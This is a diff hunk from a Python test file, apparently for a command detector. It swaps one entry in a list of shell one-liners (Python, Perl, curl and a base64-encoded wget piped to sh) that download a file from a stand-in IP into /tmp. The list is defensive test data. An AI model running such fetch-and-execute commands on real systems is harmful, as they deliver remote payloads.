@@ -60,7 +60,7 @@ def test_scp_sends_files() -> None:
     "line",
     [
         "python3 -c \"import urllib.request as u; u.urlretrieve('http://192.0.2.9/x', '/tmp/got')\"",
-        "perl -e 'use LWP::Simple; getstore(\"http://192.0.2.9/x\", \"/tmp/got\");'",
+        "perl -MHTTP::Tiny -e 'HTTP::Tiny->new->mirror(\"http://192.0.2.9/x\", \"/tmp/got\");'",
         "python3 -c \"import urllib.request as u; open('/tmp/got','wb').write(u.urlopen('http://192.0.2.9/x').read())\"",
         "curl -s http://192.0.2.9/x | tee /tmp/got",
         "echo '" + base64.b64encode(b"wget -q -O /tmp/got http://192.0.2.9/x").decode() + "' | base64 -d | sh",
